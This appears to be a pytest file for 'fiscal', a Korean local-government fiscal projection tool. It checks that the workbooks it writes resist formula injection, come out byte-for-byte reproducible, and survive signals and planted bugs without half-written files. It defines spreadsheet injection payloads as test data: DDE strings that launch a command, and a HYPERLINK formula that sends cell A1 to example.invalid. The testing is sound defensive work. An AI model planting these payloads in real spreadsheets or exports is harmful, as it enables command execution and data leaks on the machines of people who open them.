"""Nothing lost, nothing injected, nothing hidden: fiscal under signals, bugs and hostile text.

- Every workbook fiscal writes keeps text as text: names and titles that start with
  ``=``, ``+``, ``-`` or ``@`` (from rule files, agreements, a scenario's file name)
  are read back from the workbook's XML as strings, and no cell holds a formula.
- Two runs with the same rules, inputs and options write the same bytes; only
  ``--stamp-time`` records the time.
- A bug prints one line and the path of a log holding the traceback, and exits 70
  (the bug is planted with a ``sitecustomize`` module on the subprocess's path).
- A real SIGINT, SIGTERM or SIGKILL sent while a national-scale workbook is being
  written leaves the old workbook whole and no temporary file, in the output folder
  or in the temporary folder; Ctrl-C to a sweep's whole process group prints one line.
- Progress bars show on a terminal (a pseudo-terminal here) and not in a pipe.
"""

from __future__ import annotations

import os
import re
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from tests.conftest import BUNDLED_INPUTS, REPO, run_fiscal
from tests.excel_helpers import git_repo

EVIL = {
    "region": "@SUM(1+1)*cmd|' /C calc'!A0",
    "mega": "-2+3+cmd|' /C calc'!A0",
    "title": '=HYPERLINK("http://example.invalid/?"&A1,"Click me")',
    "partner": "+1+cmd|' /C calc'!A0",
    "scenario": "=cmd",
}
HYDROGEN = "agreements/2025-southeast-hydrogen-corridor.yaml"
JEONBUK = "agreements/2024-jeonbuk-public-private-culture.yaml"


def env(**extra: str) -> dict[str, str]:
    out = {**os.environ, "NO_COLOR": "1", "COLUMNS": "120", **extra}
    out["PYTHONPATH"] = str(REPO / "src") + os.pathsep + out.get("PYTHONPATH", "")
    return out


def fiscal(*args: str | Path) -> list[str]:
    return [sys.executable, "-m", "fiscal", *map(str, args)]


def told(err: str) -> list[str]:
    """Standard error's lines but the note saying which ruleset a command uses (run in
    a folder with no ruleset of its own, every command says it uses the bundled one)."""
    return [line for line in err.splitlines() if not line.startswith("No ruleset in the ")]


# --- formula injection ------------------------------------------------------------------------


def strings_and_formulas(book: Path) -> tuple[set[str], list[str]]:
    """Every text of the workbook (shared and inline strings) and every formula cell."""
    texts: set[str] = set()
    formulas: list[str] = []
    with zipfile.ZipFile(book) as package:
        for name in package.namelist():
            if not name.endswith(".xml"):
                continue
            xml = package.read(name).decode("utf-8")
            if name == "xl/sharedStrings.xml" or name.startswith("xl/worksheets/"):
                texts |= {_unescape(t) for t in re.findall(r"<t(?: [^>]*)?>([^<]*)</t>", xml)}
            if name.startswith("xl/worksheets/"):
                formulas += re.findall(r"<f[ >].*?</f>", xml)
    return texts, formulas


def _unescape(text: str) -> str:
    return (
        text.replace("&quot;", '"')
        .replace("&apos;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Every kind of workbook, made from rules whose names and titles are formulas."""
    repo, rules, inputs = git_repo(tmp_path_factory.mktemp("hostile"))
    regions = rules / "regions.yaml"
    text = regions.read_text(encoding="utf-8")
    text = text.replace("{en: Gyeonggi,", "{en: " + _yaml(EVIL["region"]) + ",")
    text = text.replace("{en: Capital area,", "{en: " + _yaml(EVIL["mega"]) + ",")
    regions.write_text(text, encoding="utf-8")
    hydrogen = rules / HYDROGEN
    lines = hydrogen.read_text(encoding="utf-8").splitlines()
    lines = [f"title: {_yaml(EVIL['title'])}" if line.startswith("title:") else line
             for line in lines]  # fmt: skip
    hydrogen.write_text("\n".join(lines) + "\n", encoding="utf-8")
    jeonbuk = rules / JEONBUK
    jeonbuk.write_text(
        re.sub(r"name: [^}\n]*", "name: " + _yaml(EVIL["partner"]), jeonbuk.read_text("utf-8"),
               count=1),
        encoding="utf-8",
    )  # fmt: skip
    scenario = repo / f"{EVIL['scenario']}.yaml"
    scenario.write_text(
        "title: '@evil'\nparameters:\n  local_consumption_tax.vat_share:\n    2027-01-01: 0.3\n",
        encoding="utf-8",
    )
    out = repo / "books"
    out.mkdir()
    common = ("--rules", rules, "--inputs", inputs)
    runs = {
        "project": ("project", *common, "--scenario", scenario, "--by", "mega-region"),
        "compare": ("compare", scenario, *common, "--by", "mega-region"),
        "sweep": ("sweep", "--param", "local_consumption_tax.vat_share", "--values",
                  "0.25,0.3", "--jobs", "1", *common),
        "diff": ("diff", *common),
        "template": ("template", "agreements", "--prefill", *common),
    }  # fmt: skip
    books = {}
    for kind, args in runs.items():
        books[kind] = out / f"{kind}.xlsx"
        done = subprocess.run(
            fiscal(*args, "-o", books[kind], "-q"), cwd=repo, env=env(), capture_output=True,
            text=True, check=False,
        )  # fmt: skip
        assert done.returncode in (0, 3), (kind, done.stderr)
    return books


def _yaml(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


EXPECTED = {
    "project": ["region", "mega", "title", "scenario"],
    "compare": ["mega", "scenario"],
    "sweep": ["region"],
    "diff": ["title", "region", "mega"],
    "template": ["title", "partner"],
}


@pytest.mark.parametrize("kind", sorted(EXPECTED))
def test_names_that_look_like_formulas_are_written_as_text(
    kind: str, hostile: dict[str, Path]
) -> None:
    texts, formulas = strings_and_formulas(hostile[kind])
    assert formulas == []
    for key in EXPECTED[kind]:
        assert any(EVIL[key] in t for t in texts), (kind, key)


def test_openpyxl_parses_with_defusedxml_where_fiscal_uses_it() -> None:
    import openpyxl.xml

    assert openpyxl.xml.DEFUSEDXML


def test_every_command_that_writes_a_workbook_takes_stamp_time() -> None:
    import typer.main

    from fiscal.cli.app import app

    group = typer.main.get_group(app)
    writers = {
        name
        for name, command in group.commands.items()
        if any("--output" in getattr(p, "opts", []) for p in command.params) and name != "synth"
    }
    assert writers == {"project", "compare", "sweep", "diff", "template"}
    for name in writers:
        options = {o for p in group.commands[name].params for o in getattr(p, "opts", [])}
        assert "--stamp-time" in options, name


# --- reproducible ----------------------------------------------------------------------------


def test_two_runs_write_the_same_bytes_and_only_stamp_time_records_the_time(
    tmp_path: Path,
) -> None:
    args = fiscal("project", "--scenario", BUNDLED_INPUTS / "scenarios" / "lct-30pct-2027.yaml",
                  "--by", "class", "-o", "book.xlsx", "-q")  # fmt: skip
    made = []
    for zone, seed in (("UTC", "1"), ("Asia/Seoul", "2")):
        done = subprocess.run(args, cwd=tmp_path, env=env(TZ=zone, PYTHONHASHSEED=seed),
                              capture_output=True, text=True, check=False)  # fmt: skip
        assert done.returncode == 0, done.stderr
        made.append((tmp_path / "book.xlsx").read_bytes())
        (tmp_path / "book.xlsx").unlink()
        time.sleep(1.1)  # a clock that leaked in would now differ
    assert made[0] == made[1]
    (tmp_path / "first.xlsx").write_bytes(made[0])
    with zipfile.ZipFile(tmp_path / "first.xlsx") as package:
        assert {info.date_time for info in package.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = package.read("docProps/core.xml").decode()
    assert '<dcterms:created xsi:type="dcterms:W3CDTF">2000-01-01T00:00:00Z' in core
    texts, _ = strings_and_formulas(tmp_path / "first.xlsx")
    assert "not stamped (use --stamp-time)" in texts

    done = subprocess.run([*args, "--stamp-time"], cwd=tmp_path, env=env(), capture_output=True,
                          text=True, check=False)  # fmt: skip
    assert done.returncode == 0, done.stderr
    texts, _ = strings_and_formulas(tmp_path / "book.xlsx")
    stamps = [t for t in texts if re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", t)]
    assert len(stamps) == 1
    with zipfile.ZipFile(tmp_path / "book.xlsx") as package:
        core = package.read("docProps/core.xml").decode()
    assert stamps[0][:19] + "Z" in core


@pytest.mark.parametrize("kind", sorted(EXPECTED))
def test_no_workbook_carries_the_time_unless_asked(kind: str, hostile: dict[str, Path]) -> None:
    with zipfile.ZipFile(hostile[kind]) as package:
        assert {info.date_time for info in package.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = package.read("docProps/core.xml").decode()
    assert re.findall(r"<dcterms:\w+ [^>]*>([^<]*)<", core) == ["2000-01-01T00:00:00Z"] * 2


# --- a bug ------------------------------------------------------------------------------------


def test_an_internal_error_prints_one_line_with_the_log_and_exits_70(tmp_path: Path) -> None:
    hook = tmp_path / "hook"
    hook.mkdir()
    (hook / "sitecustomize.py").write_text(
        "import fiscal.rules.loader as loader\n"
        "def broken(root):\n"
        "    raise RuntimeError('a planted bug')\n"
        "loader.check_ruleset = broken\n",
        encoding="utf-8",
    )
    logs = tmp_path / "tmp"
    logs.mkdir()
    done = subprocess.run(
        fiscal("validate"), cwd=tmp_path, capture_output=True, text=True, check=False,
        env=env(PYTHONPATH=str(hook), TMPDIR=str(logs)),
    )  # fmt: skip
    assert done.returncode == 70
    [line] = told(done.stderr)
    assert "Traceback" not in done.stderr
    assert line.startswith("fiscal: internal error (this is a bug in fiscal ")
    log = Path(line.rsplit("the traceback is in ", 1)[1])
    assert log.parent == logs
    text = log.read_text(encoding="utf-8")
    assert "Traceback" in text and "RuntimeError: a planted bug" in text


# --- signals ----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def national(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """243 governments over 8 years: its workbook takes seconds to write."""
    folder = tmp_path_factory.mktemp("national") / "nat"
    done = subprocess.run(fiscal("synth", folder, "--agreements", "20", "--years", "8"),
                          env=env(), capture_output=True, text=True, check=False)  # fmt: skip
    assert done.returncode == 0, done.stderr
    return folder


def writing(pid: int, folder: Path) -> bool:
    """Whether process ``pid`` holds open a file in ``folder`` that has no name yet."""
    fds = Path(f"/proc/{pid}/fd")
    try:
        links = [os.readlink(fd) for fd in fds.iterdir()]
    except OSError:
        return False
    return any(link.startswith(str(folder) + "/") and "(deleted)" in link for link in links)


def interrupted_write(national: Path, tmp_path: Path, how: signal.Signals) -> tuple[
    subprocess.Popen[str], str, Path, bytes
]:  # fmt: skip
    out = tmp_path / "out"
    out.mkdir()
    book = out / "national.xlsx"
    old = b"the workbook of yesterday, whole"
    book.write_bytes(old)
    temp = tmp_path / "tmp"
    temp.mkdir()
    process = subprocess.Popen(
        fiscal("project", "--rules", national / "rules", "--inputs", national / "inputs",
               "-o", book, "--force"),
        env=env(TMPDIR=str(temp)), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    deadline = time.monotonic() + 120
    while not writing(process.pid, out):
        assert process.poll() is None, process.communicate()
        assert time.monotonic() < deadline, "the workbook was never being written"
        time.sleep(0.02)
    time.sleep(0.3)  # well inside the write, which takes seconds
    process.send_signal(how)
    _, err = process.communicate(timeout=120)
    return process, err, book, old


needs_proc = pytest.mark.skipif(
    not Path("/proc/self/fd").is_dir() or not hasattr(os, "O_TMPFILE"),
    reason="watching a write through /proc needs Linux",
)


@needs_proc
@pytest.mark.parametrize(
    "how", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP], ids=["SIGINT", "SIGTERM", "SIGHUP"]
)
def test_a_signal_during_a_write_leaves_the_old_workbook_whole_and_says_so_in_one_line(
    how: signal.Signals, national: Path, tmp_path: Path
) -> None:
    process, err, book, old = interrupted_write(national, tmp_path, how)
    assert process.returncode == 130, err
    assert told(err) == ["fiscal: interrupted; no file was left half-written."]
    assert book.read_bytes() == old
    assert sorted(p.name for p in book.parent.iterdir()) == ["national.xlsx"]
    assert list((tmp_path / "tmp").iterdir()) == []


@needs_proc
def test_a_kill_during_a_write_leaves_the_old_workbook_whole_and_nothing_else(
    national: Path, tmp_path: Path
) -> None:
    process, _, book, old = interrupted_write(national, tmp_path, signal.SIGKILL)
    assert process.returncode == -signal.SIGKILL
    assert book.read_bytes() == old
    assert sorted(p.name for p in book.parent.iterdir()) == ["national.xlsx"]
    assert list((tmp_path / "tmp").iterdir()) == []


@pytest.mark.parametrize("how", [signal.SIGINT, signal.SIGHUP], ids=["ctrl-c", "closed-terminal"])
def test_ctrl_c_to_a_sweep_and_its_workers_prints_one_line(
    tmp_path: Path, how: signal.Signals
) -> None:
    """Ctrl-C, or a closed terminal (SIGHUP to the whole process group, workers too)."""
    process = subprocess.Popen(
        fiscal("sweep", "--param", "local_consumption_tax.vat_share", "--range",
               "0.20:0.40:0.00005", "--yes", "--jobs", "2", "-o", "sweep.xlsx"),
        cwd=tmp_path, env=env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        start_new_session=True,
    )  # fmt: skip
    # 4,001 values keep it projecting well past the signal, even on an idle machine
    # (401 could finish, write the workbook whole, and leave nothing to interrupt).
    time.sleep(2.5)  # loaded, and projecting in two workers
    assert process.poll() is None
    os.killpg(process.pid, how)  # what a terminal sends on Ctrl-C, or when it closes
    _, err = process.communicate(timeout=60)
    assert process.returncode == 130
    assert told(err) == ["fiscal: interrupted; no file was left half-written."]
    assert list(tmp_path.iterdir()) == []


# --- progress ---------------------------------------------------------------------------------


def on_a_terminal(args: list[str], cwd: Path) -> tuple[int, bytes]:
    """Run with standard error on a pseudo-terminal; return the exit code and what it showed."""
    import pty
    import threading

    leader, follower = pty.openpty()
    shown = bytearray()

    def read() -> None:  # drain the terminal as it is written, or the child would block
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # the terminal closed
                return
            if not chunk:
                return
            shown.extend(chunk)

    reader = threading.Thread(target=read)
    reader.start()
    try:
        done = subprocess.run(args, cwd=cwd, env=env(TERM="xterm"), stdout=subprocess.PIPE,
                              stderr=follower, check=False, timeout=300)  # fmt: skip
    finally:
        os.close(follower)
        reader.join(timeout=10)
        os.close(leader)
    return done.returncode, bytes(shown)


def test_a_long_projection_shows_progress_on_a_terminal_and_none_in_a_pipe_or_quiet(
    national: Path, tmp_path: Path
) -> None:
    rules, inputs = national / "rules", national / "inputs"
    code, shown = on_a_terminal(
        fiscal("project", "--rules", rules, "--inputs", inputs, "-o", "a.xlsx"), tmp_path
    )
    assert code == 0
    assert b"Writing a.xlsx" in shown and b"Projecting" in shown
    piped = run_fiscal("project", "-o", "b.xlsx", cwd=tmp_path)
    assert piped.returncode == 0
    # No progress in a pipe; only the one line saying which ruleset was used.
    assert piped.stderr == "No ruleset in the current folder: using the bundled Korean default\n"
    code, shown = on_a_terminal(fiscal("project", "-o", "c.xlsx", "--quiet"), tmp_path)
    assert code == 0
    assert b"Writing" not in shown and b"Loading" not in shown
